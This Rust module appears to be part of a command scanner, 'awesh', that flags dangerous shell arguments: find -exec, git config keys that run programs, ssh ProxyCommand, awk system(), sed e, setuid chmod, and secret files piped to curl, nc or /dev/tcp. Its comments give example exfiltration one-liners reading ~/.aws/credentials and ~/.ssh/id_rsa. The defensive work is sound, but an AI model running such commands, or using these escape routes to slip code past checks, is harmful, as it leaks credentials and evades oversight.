//! What only code can see in one program's arguments: `find -exec`, `git -c`, `ssh -o
//! ProxyCommand` and the remote command, `awk system()`, `sed e`, `man -P`, `less +!`, setuid
//! `chmod`, `kill -1`, tmux and screen commands, the files a program writes, and secret files
//! sent over the network. Commands these run are labelled through `Scan::run_words`.

use super::paths::{home_relative, important_path, secret_path, writes};
use super::programs::Parsed;
use super::scan::{base, texts, Arg, Scan, Stdin};
use super::Risk::{self, Changes as C, Destructive as D};

/// tmux and screen run shell commands they are given: `tmux new -d 'cmd'`, `send-keys`,
/// `run-shell`, `screen -dm cmd`.
pub fn tmux(s: &mut Scan, name: &str, args: &[Arg], what: &str) {
    s.note(C, what, "drives a terminal multiplexer");
    if args.iter().any(|a| a.dynamic) {
        s.note(
            D,
            what,
            "gives a terminal multiplexer code chosen at run time",
        );
        return;
    }
    if name == "screen" {
        let rest: Vec<&Arg> = args
            .iter()
            .skip_while(|a| a.text.starts_with('-') || a.text == "-S")
            .collect();
        if !rest.is_empty() {
            let code: Vec<String> = rest.iter().map(|a| a.text.clone()).collect();
            s.nested(&code.join(" "), "run by screen");
        }
        return;
    }
    let Some(sub) = args.iter().position(|a| !a.text.starts_with('-')) else {
        return;
    };
    let words: Vec<&Arg> = args[sub + 1..].iter().collect();
    let positional = |skip_values: &[&str]| -> Vec<String> {
        let mut out = Vec::new();
        let mut i = 0;
        while i < words.len() {
            let t = words[i].text.as_str();
            if skip_values.contains(&t) {
                i += 2;
                continue;
            }
            if !t.starts_with('-') {
                out.push(t.to_owned());
            }
            i += 1;
        }
        out
    };
    match args[sub].text.as_str() {
        "send-keys" | "send" => {
            let keys: Vec<String> = positional(&["-t", "-N"])
                .into_iter()
                .filter(|k| !matches!(k.as_str(), "Enter" | "C-m" | "KPEnter" | "C-j"))
                .collect();
            if !keys.is_empty() {
                s.nested(&keys.join(" "), "typed into tmux");
            }
        }
        "new-session" | "new" | "new-window" | "neww" | "split-window" | "splitw"
        | "respawn-pane" | "respawnp" | "respawn-window" | "respawnw" | "run-shell" | "run"
        | "if-shell" | "if" | "display-popup" | "popup" => {
            let rest = positional(&["-t", "-s", "-n", "-c", "-x", "-y", "-e", "-F", "-l", "-w"]);
            for code in rest {
                s.nested(&code, "run by tmux");
            }
        }
        _ => {}
    }
}

/// Checks for what only code can see in one program's arguments. `true` when the program
/// only carries a command that was labelled on its own (`ssh host CMD`).
pub fn special(s: &mut Scan, name: &str, args: &[Arg], parsed: &Parsed, what: &str) -> bool {
    let mut ran_elsewhere = false;
    let opt = |n: &'static str| {
        parsed
            .options
            .iter()
            .filter(move |(o, _)| o == n)
            .filter_map(|(_, v)| v.as_deref())
    };
    match name {
        "find" => find(s, args, what),
        "git" => git(s, args, what),
        "kubectl" | "oc" if parsed.positionals.first().is_some_and(|p| p == "exec") => {
            if let Some(dash) = args.iter().position(|a| a.text == "--") {
                let rest = &args[dash + 1..];
                if !rest.is_empty() {
                    s.run_words(rest, &Stdin::Inherited, "inside the pod");
                    ran_elsewhere = true;
                }
            }
        }
        "docker" | "podman" | "nerdctl" => {
            let p = &parsed.positionals;
            let at = match p.first().map(String::as_str) {
                Some("exec" | "run") => Some(2),
                Some("container")
                    if matches!(p.get(1).map(String::as_str), Some("exec" | "run")) =>
                {
                    Some(3)
                }
                _ => None,
            };
            if let Some(cmd) = at.and_then(|n| p.get(n..)).filter(|c| !c.is_empty()) {
                let words: Vec<Arg> = cmd
                    .iter()
                    .map(|t| Arg {
                        text: t.clone(),
                        ..Arg::default()
                    })
                    .collect();
                s.run_words(&words, &Stdin::Inherited, "inside the container");
                ran_elsewhere = p.first().is_some_and(|c| c == "exec");
            }
        }
        "ssh" => ran_elsewhere = ssh(s, args, parsed, what),
        "awk" | "gawk" | "mawk" | "nawk" | "busybox-awk" => awk(s, parsed, what),
        "sed" | "gsed" => {
            let mut scripts: Vec<&str> = opt("-e").chain(opt("--expression")).collect();
            if parsed
                .options
                .iter()
                .any(|(o, _)| o == "-f" || o == "--file")
            {
                s.note(C, what, "runs a sed script awesh cannot see");
            }
            if scripts.is_empty() {
                scripts.extend(parsed.positionals.first().map(String::as_str));
            }
            for script in scripts {
                if let Some((risk, why)) = sed_script(script) {
                    s.note(risk, what, why);
                }
            }
        }
        "man"
            if parsed
                .options
                .iter()
                .any(|(o, _)| matches!(o.as_str(), "-P" | "--pager" | "-H" | "--html")) =>
        {
            s.note(D, what, "man runs the pager or browser it is given");
        }
        "less" | "more" | "most" => {
            if args
                .iter()
                .any(|a| a.text.starts_with('+') && a.text.contains('!'))
            {
                s.note(D, what, "a less command that runs a shell");
            }
            if args
                .iter()
                .any(|a| a.text.starts_with("-o") || a.text.starts_with("--log-file"))
            {
                s.note(C, what, "writes a log file");
            }
        }
        "vim" | "vi" | "nvim" | "ex" | "view" | "gvim" => {
            let cmds = args
                .windows(2)
                .filter(|w| matches!(w[0].text.as_str(), "-c" | "--cmd"))
                .map(|w| w[1].text.as_str());
            let plus = args.iter().filter_map(|a| a.text.strip_prefix('+'));
            if cmds
                .chain(plus)
                .any(|c| c.contains('!') || c.contains("system("))
            {
                s.note(D, what, "an editor command that runs a shell");
            }
        }
        "chmod" => {
            let mode = parsed.positionals.first().map(String::as_str).unwrap_or("");
            let setuid = (mode.contains('+') || mode.contains('='))
                && mode
                    .split([',', '+', '=', '-'])
                    .skip(1)
                    .any(|p| p.contains('s'))
                || (mode.len() == 4
                    && mode.bytes().all(|b| b.is_ascii_digit())
                    && matches!(mode.as_bytes()[0], b'2' | b'4' | b'6' | b'7'));
            if setuid {
                s.note(D, what, "sets the setuid or setgid bit");
            }
            top_level_recursive(s, parsed, what);
        }
        "chown" | "chgrp" => top_level_recursive(s, parsed, what),
        "kill" => {
            let mut targets: &[String] = &parsed.positionals;
            let signal_first = args.first().is_some_and(|a| a.text.starts_with('-'));
            if signal_first && parsed.positionals.is_empty() {
                // `kill -9 -1`: the second dash word is a target.
                let dashed: Vec<&Arg> = args.iter().skip(1).collect();
                if dashed.iter().any(|a| a.text == "-1") {
                    s.note(D, what, "signals every process the user can reach");
                }
            }
            if args
                .first()
                .is_some_and(|a| a.text == "-s" || a.text == "-n")
            {
                targets = targets.get(1..).unwrap_or(&[]);
            }
            if targets
                .iter()
                .any(|t| matches!(t.as_str(), "-1" | "1" | "0"))
                || args.iter().skip(1).any(|a| a.text == "-1")
            {
                s.note(D, what, "signals every process, init, or its own group");
            }
        }
        "tar" => {
            for dir in opt("-C").chain(opt("--directory")) {
                if important_path(dir) {
                    s.note(D, what, &format!("extracts into {dir}"));
                }
            }
        }
        "rsync" => {
            for sh in opt("-e").chain(opt("--rsh")) {
                s.nested(sh, "as rsync's remote shell");
            }
        }
        "git-credential" => {}
        _ => {}
    }
    // A service bound to every interface.
    let all = |v: &str| matches!(v, "0.0.0.0" | "::" | "[::]" | "*") || v.starts_with("0.0.0.0:");
    let binds = parsed.options.iter().any(|(o, v)| {
        matches!(
            o.as_str(),
            "--host"
                | "--bind"
                | "--address"
                | "--ip"
                | "--listen"
                | "--addr"
                | "--bind-address"
                | "--listen-address"
                | "--http-address"
                | "-S"
        ) && v.as_deref().is_some_and(all)
    }) || (name == "php"
        && args
            .windows(2)
            .any(|w| w[0].text == "-S" && all(&w[1].text)));
    if binds {
        s.note(D, what, "binds a service to every network interface");
    }
    ran_elsewhere
}

fn top_level_recursive(s: &mut Scan, parsed: &Parsed, what: &str) {
    let recursive = parsed
        .options
        .iter()
        .any(|(o, _)| o == "-R" || o == "--recursive");
    let top = parsed.positionals.iter().skip(1).any(|p| {
        let p = home_relative(p);
        p == "/"
            || p == "~"
            || p == "/*"
            || p == "~/"
            || (p.starts_with('/') && p[1..].split('/').filter(|x| !x.is_empty()).count() == 1)
    });
    if recursive && top {
        s.note(D, what, "changes a whole system or home tree");
    }
}

fn find(s: &mut Scan, args: &[Arg], what: &str) {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if matches!(a, "-exec" | "-execdir" | "-ok" | "-okdir") {
            let end = args[i + 1..]
                .iter()
                .position(|w| w.text == ";" || w.text == "+")
                .map_or(args.len(), |n| i + 1 + n);
            let sub = &args[i + 1..end];
            if !sub.is_empty() {
                s.run_words(sub, &Stdin::Inherited, "run by find -exec");
            }
            i = end + 1;
            continue;
        }
        if matches!(a, "-fprint" | "-fprint0" | "-fprintf" | "-fls") {
            if let Some(f) = args.get(i + 1) {
                writes(s, f, false, what);
            }
        }
        i += 1;
    }
}

/// `git -c KEY=VALUE` and `git config KEY VALUE` for keys that name a program to run.
fn git_key_runs_code(key: &str, value: &str) -> bool {
    let key = key.to_ascii_lowercase();
    const PARTS: &[&str] = &[
        "pager",
        "fsmonitor",
        "sshcommand",
        "editor",
        "hookspath",
        "gitproxy",
        "askpass",
        "external",
        "textconv",
        "program",
        "filter.",
        "difffilter",
        ".command",
        "packobjectshook",
        "receivepack",
        "uploadpack",
        "protocol.",
        "helper",
        ".cmd",
        "tool.",
        "sendemail.",
    ];
    PARTS.iter().any(|p| key.contains(p))
        || (key.starts_with("alias.") && value.trim_start().starts_with('!'))
}

fn git(s: &mut Scan, args: &[Arg], what: &str) {
    let mut i = 0;
    while i < args.len() {
        let a = args[i].text.as_str();
        if a == "-c" {
            if let Some(kv) = args.get(i + 1) {
                let (k, v) = kv.text.split_once('=').unwrap_or((&kv.text, ""));
                if git_key_runs_code(k, v) || kv.dynamic {
                    s.note(
                        D,
                        what,
                        &format!("git -c {k} makes git run another program"),
                    );
                }
            }
            i += 2;
            continue;
        }
        if a.starts_with("--config-env")
            || a.starts_with("--exec-path=")
            || a.starts_with("--upload-pack")
            || a.starts_with("--receive-pack")
        {
            s.note(D, what, "a git option that runs another program");
        }
        if a == "-C" || a == "--git-dir" || a == "--work-tree" || a == "--namespace" {
            i += 2;
            continue;
        }
        if a.starts_with('-') {
            i += 1;
            continue;
        }
        break;
    }
    let rest = args.get(i..).unwrap_or(&[]);
    let sub = rest.first().map(|a| a.text.as_str());
    let tail = rest.get(1..).unwrap_or(&[]);
    match sub {
        Some("push") => {
            let refspecs = tail.iter().filter(|a| !a.text.starts_with('-')).skip(1);
            if refspecs
                .into_iter()
                .any(|a| a.text.starts_with('+') || (a.text.starts_with(':') && a.text.len() > 1))
            {
                s.note(D, what, "force-pushes or deletes a remote branch");
            }
        }
        Some("checkout") if tail.iter().any(|a| a.text == "--" || a.text == ".") => {
            s.note(D, what, "discards local changes to files");
        }
        Some("config") => {
            let pos: Vec<&Arg> = tail.iter().filter(|a| !a.text.starts_with('-')).collect();
            if let [k, v, ..] = pos.as_slice() {
                if git_key_runs_code(&k.text, &v.text) {
                    s.note(
                        D,
                        what,
                        &format!("sets {} to a program git will run", k.text),
                    );
                }
            }
        }
        Some("clone" | "fetch" | "pull" | "ls-remote" | "archive" | "submodule") => {
            if tail.iter().any(|a| {
                a.text == "-u"
                    || a.text.starts_with("--upload-pack")
                    || a.text.starts_with("--exec")
                    || a.text == "--config"
                    || a.text.starts_with("--config=")
                        && git_key_runs_code(a.text.split_once('=').map_or("", |x| x.1), "")
            }) {
                s.note(D, what, "a git option that runs another program");
            }
            if sub == Some("submodule") && tail.first().is_some_and(|a| a.text == "foreach") {
                let code = texts(&tail[1..]).join(" ");
                s.nested(&code, "run by git submodule foreach");
            }
        }
        Some("rebase") => {
            for w in tail.windows(2) {
                if w[0].text == "-x" || w[0].text == "--exec" {
                    s.nested(&w[1].text, "run by git rebase --exec");
                }
            }
            if tail.iter().any(|a| a.text.starts_with("--exec=")) {
                s.note(D, what, "git rebase --exec runs commands");
            }
        }
        Some("bisect") if tail.first().is_some_and(|a| a.text == "run") => {
            let cmd = &tail[1..];
            if !cmd.is_empty() {
                s.run_words(cmd, &Stdin::Inherited, "run by git bisect");
            }
        }
        Some("difftool" | "mergetool")
            if tail
                .iter()
                .any(|a| a.text == "-x" || a.text.starts_with("--extcmd")) =>
        {
            s.note(D, what, "runs the tool it is given");
        }
        _ => {}
    }
}

fn ssh(s: &mut Scan, args: &[Arg], parsed: &Parsed, what: &str) -> bool {
    for (o, v) in &parsed.options {
        let v = v.as_deref().unwrap_or("");
        let lower = v.to_ascii_lowercase();
        if o == "-o"
            && [
                "proxycommand",
                "localcommand",
                "permitlocalcommand",
                "knownhostscommand",
                "match exec",
                "proxyusefdpass",
            ]
            .iter()
            .any(|k| lower.starts_with(k))
        {
            s.note(D, what, "an ssh option that runs a local command");
        }
        if matches!(o.as_str(), "-L" | "-R" | "-D")
            && (v.starts_with("0.0.0.0:") || v.starts_with("*:") || v.starts_with("[::]:"))
        {
            s.note(D, what, "exposes a forwarded port to the network");
        }
    }
    let Some(host) = parsed.positionals.first() else {
        return false;
    };
    let remote = &parsed.positionals[1..];
    if remote.is_empty() {
        return false;
    }
    let at = args.iter().position(|a| &a.text == host).unwrap_or(0);
    if args[at + 1..].iter().any(|a| a.dynamic) {
        s.note(D, what, "gives the remote shell code chosen at run time");
    } else {
        s.nested(&remote.join(" "), "on the remote host");
    }
    true
}

fn awk(s: &mut Scan, parsed: &Parsed, what: &str) {
    if parsed
        .options
        .iter()
        .any(|(o, _)| o == "-f" || o == "--file")
    {
        s.note(C, what, "runs an awk program awesh cannot see");
        return;
    }
    let program: String = parsed
        .options
        .iter()
        .filter(|(o, _)| o == "-e" || o == "--source")
        .filter_map(|(_, v)| v.clone())
        .chain(parsed.positionals.first().cloned())
        .collect::<Vec<_>>()
        .join("\n");
    let compact: String = program.chars().filter(|c| !c.is_whitespace()).collect();
    if compact.contains("system(")
        || compact.contains("|getline")
        || compact.contains("|&")
        || compact.contains("|\"")
    {
        s.note(D, what, "the awk program runs commands");
    } else if compact.contains(">\"") || compact.contains(">>") || compact.contains(">$") {
        s.note(C, what, "the awk program writes files");
    }
    if parsed
        .options
        .iter()
        .any(|(o, v)| o == "-i" && v.as_deref() == Some("inplace"))
    {
        s.note(C, what, "edits files in place");
    }
}

/// What a sed script does beyond editing its stream: `e` runs commands, `w` writes files.
fn sed_script(script: &str) -> Option<(Risk, &'static str)> {
    let mut worst: Option<(Risk, &'static str)> = None;
    let mut raise = |r: Risk, why: &'static str| {
        if worst.is_none_or(|(w, _)| r > w) {
            worst = Some((r, why));
        }
    };
    for part in script.split([';', '\n']) {
        let mut p = part.trim_start().trim_start_matches('{').trim_start();
        // Skip the address: line numbers, $, ranges, steps, /regex/, negation.
        loop {
            let before = p.len();
            p = p.trim_start_matches(|c: char| {
                c.is_ascii_digit() || matches!(c, '$' | ',' | '~' | '+' | '!' | ' ')
            });
            if let Some(rest) = p.strip_prefix('/') {
                let end = rest.find('/').map_or(rest.len(), |n| n + 1);
                p = &rest[end.min(rest.len())..];
            }
            if p.len() == before {
                break;
            }
        }
        let mut chars = p.chars();
        match chars.next() {
            Some('e') => raise(D, "a sed script that runs commands (e)"),
            Some('w' | 'W') => raise(C, "a sed script that writes a file (w)"),
            Some('s') => {
                let Some(delim) = chars.next() else { continue };
                let body: String = chars.collect();
                let mut count = 0;
                let mut escaped = false;
                let mut flags = String::new();
                for c in body.chars() {
                    if count >= 2 {
                        flags.push(c);
                        continue;
                    }
                    if escaped {
                        escaped = false;
                    } else if c == '\\' {
                        escaped = true;
                    } else if c == delim {
                        count += 1;
                    }
                }
                let flags: String = flags
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric())
                    .collect();
                if flags.contains('e') {
                    raise(D, "a sed substitution that runs its result (s///e)");
                } else if flags.contains('w') {
                    raise(C, "a sed substitution that writes a file (s///w)");
                }
            }
            _ => {}
        }
    }
    worst
}

/// Files a program writes, from its arguments.
pub fn write_targets(name: &str, args: &[Arg], parsed: &Parsed) -> Vec<Arg> {
    let arg = |t: &str| Arg {
        text: t.to_owned(),
        dynamic: args.iter().any(|a| a.text == t && a.dynamic),
        ..Arg::default()
    };
    let values = |names: &[&str]| -> Vec<Arg> {
        parsed
            .options
            .iter()
            .filter(|(o, _)| names.contains(&o.as_str()))
            .filter_map(|(_, v)| v.as_deref().map(arg))
            .collect()
    };
    let pos = &parsed.positionals;
    match name {
        // `mv x /dev/null` replaces the device node (as root) or loses x.
        "mv" if pos.last().is_some_and(|p| p.starts_with("/dev/")) => {
            vec![arg("/dev/(moved over)")]
        }
        "cp" | "mv" | "install" | "ln" => {
            let mut out = values(&["-t", "--target-directory"]);
            if out.is_empty() && pos.len() >= 2 {
                out.extend(pos.last().map(|p| arg(p)));
            }
            out
        }
        "tee" | "truncate" | "touch" | "mkdir" | "shred" => pos.iter().map(|p| arg(p)).collect(),
        "sed" | "gsed" | "perl"
            if parsed
                .options
                .iter()
                .any(|(o, _)| o.starts_with("-i") || o == "--in-place" || o == "-I") =>
        {
            pos.iter()
                .skip(usize::from(name != "perl"))
                .map(|p| arg(p))
                .collect()
        }
        "dd" => args
            .iter()
            .filter_map(|a| a.text.strip_prefix("of="))
            .map(arg)
            .collect(),
        "sort" => values(&["-o", "--output"]),
        "curl" => values(&[
            "-o",
            "--output",
            "--output-dir",
            "-c",
            "--cookie-jar",
            "-D",
            "--dump-header",
        ]),
        "wget" => values(&[
            "-O",
            "--output-document",
            "-P",
            "--directory-prefix",
            "-o",
            "--output-file",
        ]),
        "unzip" => values(&["-d"]),
        "openssl" => values(&["-out"]),
        "ssh-keygen"
            if !parsed
                .options
                .iter()
                .any(|(o, _)| matches!(o.as_str(), "-l" | "-y" | "-F" | "-R")) =>
        {
            values(&["-f"])
        }
        "scp" | "rsync" => pos
            .last()
            .filter(|p| !p.contains(':') && pos.len() >= 2)
            .map(|p| vec![arg(p)])
            .unwrap_or_default(),
        _ => Vec::new(),
    }
}

/// A local secret file sent over the network, as an argument, through stdin or a pipe.
pub fn network(s: &mut Scan, name: &str, args: &[Arg], parsed: &Parsed, stdin: &Stdin, what: &str) {
    const NET: &[&str] = &[
        "curl",
        "wget",
        "http",
        "https",
        "xh",
        "scp",
        "sftp",
        "rsync",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "telnet",
        "ftp",
        "lftp",
        "mail",
        "mailx",
        "mutt",
        "sendmail",
        "gh",
        "glab",
        "aws",
        "gsutil",
        "gcloud",
        "az",
        "rclone",
        "s3cmd",
        "ssh",
        "curlie",
        "httpie",
        "openssl",
        "kubectl",
        "docker",
        "magic-wormhole",
        "wormhole",
        "croc",
        "transfer",
        "pastebinit",
        "nc.openbsd",
        "nc.traditional",
    ];
    if !NET.contains(&name) {
        return;
    }
    let sends_secret = match name {
        // The key ssh logs in with is not sent; what it carries on stdin or runs is.
        // (`kubectl --kubeconfig ~/.kube/config` is an option value; `kubectl cp
        // ~/.kube/config pod:/tmp` is a positional and does send it.)
        "ssh" | "openssl" => false,
        _ => {
            parsed.positionals.iter().any(|p| secret_path(p))
                || parsed.options.iter().any(|(o, v)| {
                    let login = matches!(
                        o.as_str(),
                        "-i" | "--identity"
                            | "-E"
                            | "--cert"
                            | "--key"
                            | "--cacert"
                            | "-K"
                            | "--config"
                    ) || (o == "-F" && matches!(name, "scp" | "sftp" | "rsync"));
                    !login && v.as_deref().is_some_and(secret_path)
                })
                || args
                    .iter()
                    .any(|a| a.text.starts_with('@') && secret_path(&a.text))
        }
    };
    if sends_secret {
        s.note(D, what, "sends a local secret file over the network");
    }
    let piped_secret = match stdin {
        Stdin::Pipe { secret, .. } => *secret,
        Stdin::File(f) => secret_path(f),
        _ => false,
    };
    if piped_secret && !matches!(name, "openssl" | "kubectl" | "docker") {
        s.note(
            D,
            what,
            "sends a secret file it reads on its input over the network",
        );
    }
}

/// A last net under the tree walk: a command that names a secret file and a program that
/// sends things over the network is treated as sending it, however the two are joined
/// (`k=$(cat ~/.aws/credentials); curl -d "$k" …`, `nc h 80 < <(cat ~/.ssh/id_rsa)`).
#[must_use]
pub fn secret_and_network(command: &str) -> Option<String> {
    const SENDERS: &[&str] = &[
        // Not ssh, scp or rsync: their key files (`-i ~/.ssh/id_ed25519`) log in, they are
        // not sent; what they do send is checked command by command.
        "curl", "wget", "nc", "ncat", "netcat", "socat", "telnet", "ftp", "lftp", "mail", "mailx",
        "sendmail", "mutt", "http", "https", "xh",
    ];
    let normal = command.replace("${HOME}", "~").replace("$HOME", "~");
    let words: Vec<&str> = normal
        .split(|c: char| {
            c.is_whitespace()
                || matches!(
                    c,
                    ';' | '|' | '&' | '(' | ')' | '<' | '>' | '`' | '"' | '\'' | '$' | '='
                )
        })
        .filter(|w| !w.is_empty())
        .collect();
    let secret = words.iter().find(|w| secret_path(w))?;
    let sender = words.iter().find(|w| {
        let w = w.trim_start_matches('@');
        SENDERS.contains(&base(w)) || w.starts_with("/dev/tcp/") || w.starts_with("/dev/udp/")
    })?;
    Some(format!(
        "names the secret file {secret} and sends with {sender}"
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sed_scripts() {
        assert_eq!(sed_script("1e id").map(|x| x.0), Some(D));
        assert_eq!(sed_script("s/a/b/e").map(|x| x.0), Some(D));
        assert_eq!(sed_script("/x/w out").map(|x| x.0), Some(C));
        assert_eq!(sed_script("s/a/b/g").map(|x| x.0), None);
        assert_eq!(sed_script("s|e|x|").map(|x| x.0), None);
    }
}
